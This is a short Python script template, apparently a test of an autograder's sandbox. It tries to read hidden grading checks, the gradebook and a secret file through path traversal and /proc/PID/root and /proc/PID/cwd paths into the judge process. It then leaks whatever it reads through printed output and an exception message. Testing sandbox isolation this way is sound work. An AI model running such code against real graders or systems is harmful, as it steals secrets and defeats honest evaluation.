"""Reads the release's source, the hidden checks and a secret file, by every path there is."""

# answers: two
# earns: 20

# %% first
def attempt(f, *args):
    try:
        return f(*args)
    except BaseException as error:
        return f"{type(error).__name__}"
def read(path, size=200_000):
    return attempt(lambda: open(path, "rb").read(size))
import glob, os
paths = ["@SOURCE@", "@HIDDEN@", "@SECRET@", "@GRADEBOOK@", *glob.glob("../../../source/**", recursive=True), *glob.glob("/*/hidden_checks.py"), *glob.glob("/tmp/*/*/hidden_checks.py")]
paths += ["../" * 30 + p for p in paths] + [f"/proc/{p}/root{q}" for p in (1, "self", @JUDGE@) for q in paths[:4]] + [f"/proc/{p}/cwd/{q}" for p in (1, @JUDGE@) for q in ("notebooks/initialization/hidden_checks.py",)]
got = [text for p in paths if isinstance(text := read(p), bytes)]
print(got)
raise ValueError(str(got)[:1_900])
